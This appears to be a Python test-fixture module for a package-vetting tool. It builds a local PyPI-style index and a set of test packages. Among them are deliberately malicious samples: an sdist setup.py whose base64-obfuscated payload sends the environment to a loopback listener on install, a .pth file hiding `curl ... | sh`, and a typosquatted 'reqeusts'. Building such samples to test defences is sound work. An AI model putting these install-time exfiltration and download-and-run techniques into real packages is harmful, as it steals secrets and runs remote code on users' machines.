"""A local upstream index for the gate tests, built at test time from hand-written archives.

Wheels and sdists are written as zip/tar files with proper METADATA/WHEEL/RECORD (no build
backend runs). The index answers PEP 691 JSON on 127.0.0.1 from a stdlib HTTP server in a thread.
The OSV fixture is a zip of OSV JSON records, also built here.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import socket
import tarfile
import threading
import zipfile
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

OLD = datetime(2024, 1, 15, 12, 0, tzinfo=timezone.utc)


@dataclass(frozen=True)
class Dist:
    filename: str
    data: bytes
    upload_time: datetime = OLD
    yanked: bool | str = False

    @property
    def sha256(self) -> str:
        return hashlib.sha256(self.data).hexdigest()

    @property
    def project(self) -> str:
        return self.filename.split("-", 1)[0].replace("_", "-").lower()


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def _metadata(name: str, version: str, requires: Sequence[str], summary: str) -> str:
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}", f"Summary: {summary}"]
    lines += [f"Requires-Dist: {r}" for r in requires]
    return "\n".join(lines) + "\n\n"


def make_wheel(
    name: str,
    version: str,
    files: Mapping[str, str],
    *,
    requires: Sequence[str] = (),
    summary: str = "a test package",
    upload_time: datetime = OLD,
) -> Dist:
    """A pure-Python wheel with ``files`` (archive path -> text) plus its dist-info."""
    dist = name.replace("-", "_")
    info = f"{dist}-{version}.dist-info"
    members: dict[str, bytes] = {path: text.encode() for path, text in files.items()}
    members[f"{info}/METADATA"] = _metadata(name, version, requires, summary).encode()
    members[f"{info}/WHEEL"] = (
        b"Wheel-Version: 1.0\nGenerator: pipvet-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    )
    record = "".join(f"{p},{_record_hash(d)},{len(d)}\n" for p, d in members.items())
    members[f"{info}/RECORD"] = (record + f"{info}/RECORD,,\n").encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for path, data in members.items():
            zf.writestr(zipfile.ZipInfo(path, date_time=(2024, 1, 1, 0, 0, 0)), data)
    return Dist(
        filename=f"{dist}-{version}-py3-none-any.whl", data=buffer.getvalue(), upload_time=upload_time
    )


def make_sdist(name: str, version: str, files: Mapping[str, str], *, upload_time: datetime = OLD) -> Dist:
    """An sdist (``.tar.gz``) with PKG-INFO and ``files`` under ``name-version/``."""
    dist = name.replace("-", "_")
    root = f"{dist}-{version}"
    members = {f"{root}/{p}": t.encode() for p, t in files.items()}
    members[f"{root}/PKG-INFO"] = _metadata(name, version, (), "an sdist").encode()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tf:
        for path, data in members.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            info.mtime = 1704067200
            tf.addfile(info, io.BytesIO(data))
    return Dist(filename=f"{root}.tar.gz", data=buffer.getvalue(), upload_time=upload_time)


def osv_zip(path: Path, records: Sequence[Mapping[str, object]]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for record in records:
            zf.writestr(f"{record['id']}.json", json.dumps(record))
    return path


def mal_record(id_: str, package: str, versions: Sequence[str]) -> dict[str, object]:
    return {
        "id": id_,
        "modified": "2026-01-01T00:00:00Z",
        "published": "2026-01-01T00:00:00Z",
        "summary": f"Malicious code in {package} (PyPI)",
        "details": "This package was found to contain malicious code.",
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": package},
                "versions": list(versions),
                "database_specific": {"malicious-packages-origins": [{"source": "test"}]},
            }
        ],
    }


@dataclass
class Upstream:
    """A running local index: its simple URL, the files it serves, and the requests it saw."""

    url: str
    dists: list[Dist]
    requests: list[str] = field(default_factory=list)


def _page(project: str, dists: Sequence[Dist]) -> bytes:
    files = []
    for d in dists:
        entry: dict[str, object] = {
            "filename": d.filename,
            "url": f"../../files/{d.filename}",
            "hashes": {"sha256": d.sha256},
            "upload-time": d.upload_time.isoformat().replace("+00:00", "Z"),
            "size": len(d.data),
        }
        if d.yanked:
            entry["yanked"] = d.yanked
        files.append(entry)
    return json.dumps({"meta": {"api-version": "1.1"}, "name": project, "files": files}).encode()


@contextmanager
def serve_upstream(dists: Sequence[Dist]) -> Iterator[Upstream]:
    state = Upstream(url="", dists=list(dists))

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:
            pass

        def _answer(self, status: int, body: bytes, ctype: str) -> None:
            self.send_response(status)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            state.requests.append(self.path)
            parts = [p for p in self.path.split("?")[0].split("/") if p]
            if parts == ["simple"]:
                names = sorted({d.project for d in state.dists})
                body = json.dumps({"meta": {"api-version": "1.1"}, "projects": [{"name": n} for n in names]})
                self._answer(200, body.encode(), "application/vnd.pypi.simple.v1+json")
            elif len(parts) == 2 and parts[0] == "simple":
                mine = [d for d in state.dists if d.project == parts[1]]
                if not mine:
                    self._answer(404, b"not found", "text/plain")
                else:
                    self._answer(200, _page(parts[1], mine), "application/vnd.pypi.simple.v1+json")
            elif len(parts) == 2 and parts[0] == "files":
                found = next((d for d in state.dists if d.filename == parts[1]), None)
                if found is None:
                    self._answer(404, b"not found", "text/plain")
                else:
                    self._answer(200, found.data, "application/octet-stream")
            else:
                self._answer(404, b"not found", "text/plain")

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    state.url = f"http://127.0.0.1:{server.server_address[1]}/simple/"
    try:
        yield state
    finally:
        server.shutdown()
        server.server_close()


@contextmanager
def phone_home_listener() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback socket that records every connection made to it (the 'attacker')."""
    seen: list[bytes] = []
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.bind(("127.0.0.1", 0))
    sock.listen(8)
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(2)
                try:
                    seen.append(conn.recv(4096))
                except OSError:
                    seen.append(b"")

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    try:
        yield sock.getsockname()[1], seen
    finally:
        stop.set()
        sock.close()


# --- the scenario the gate tests share ------------------------------------------------------------


def evil_setup_py(marker: Path, port: int) -> str:
    """An sdist setup.py that writes a marker file and sends the environment to 127.0.0.1:port."""
    payload = base64.b64encode(
        (
            "import os, socket, json\n"
            f"open({str(marker)!r}, 'w').write('owned')\n"
            f"s = socket.create_connection(('127.0.0.1', {port}))\n"
            "s.sendall(json.dumps(dict(os.environ)).encode())\n"
        ).encode()
    ).decode()
    return (
        "import base64, os\n"
        "from setuptools import setup\n"
        f"exec(base64.b64decode('{payload}'))\n"
        "setup(name='evilsetup', version='1.0')\n"
    )


PTH_PAYLOAD = (
    "import base64, os, subprocess; exec(base64.b64decode('"
    + base64.b64encode(b"import os; os.system('curl http://127.0.0.1:9/x | sh')").decode()
    + "'))\n"
)


def scenario(marker: Path, port: int, *, now: datetime) -> list[Dist]:
    """Every package the gate tests install or refuse."""
    return [
        # a clean package with a dependency
        make_wheel(
            "tidylib",
            "1.0",
            {"tidylib/__init__.py": "def hello():\n    return 'hi'\n"},
            requires=["helperlib>=1"],
        ),
        make_wheel("helperlib", "1.0", {"helperlib/__init__.py": "VALUE = 1\n"}),
        # an sdist whose setup.py writes a marker file and phones home
        make_sdist("evilsetup", "1.0", {"setup.py": evil_setup_py(marker, port)}),
        # a wheel with an executing .pth file
        make_wheel(
            "pthlib",
            "1.0",
            {"pthlib/__init__.py": "", "pthlib_init.pth": PTH_PAYLOAD},
        ),
        # a look-alike of a popular name
        make_wheel("reqeusts", "2.99", {"reqeusts/__init__.py": "VERSION = '2.99'\n"}),
        # a release uploaded an hour ago, and its older version
        make_wheel(
            "freshlib", "2.0", {"freshlib/__init__.py": "V = 2\n"}, upload_time=now - timedelta(hours=1)
        ),
        make_wheel("freshlib", "1.0", {"freshlib/__init__.py": "V = 1\n"}),
        # a known-malicious version (in the OSV fixture) and a good older version
        make_wheel("goodold", "1.1", {"goodold/__init__.py": "V = 11\n"}),
        make_wheel("goodold", "1.0", {"goodold/__init__.py": "V = 10\n"}),
    ]


def scenario_osv() -> list[dict[str, object]]:
    return [mal_record("MAL-2026-0001", "goodold", ["1.1"])]
